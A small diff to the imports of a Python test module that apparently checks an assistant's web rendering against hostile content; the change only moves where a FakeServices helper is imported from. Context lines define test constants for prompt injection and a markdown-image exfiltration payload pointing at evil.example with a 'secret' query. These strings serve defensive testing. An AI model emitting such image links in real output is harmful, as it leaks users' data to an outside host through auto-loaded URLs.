@@ -20,6 +20,7 @@ from assistant.web import items as items_view
 from assistant.web.safe import inert
 from assistant.web.session import SessionState
 from knowledge.qa import Answer, Citation
+from tests.fakes.web import FakeServices
 from tests.hostile.render import (
     HOSTILE,
     active_elements,
@@ -27,7 +28,6 @@ from tests.hostile.render import (
     elements,
     markdown_to_html,
 )
-from tests.web.test_web import FakeServices
 
 INJECTION = HOSTILE[-1]
 EXFIL = "![x](http://evil.example/?q=secret)"
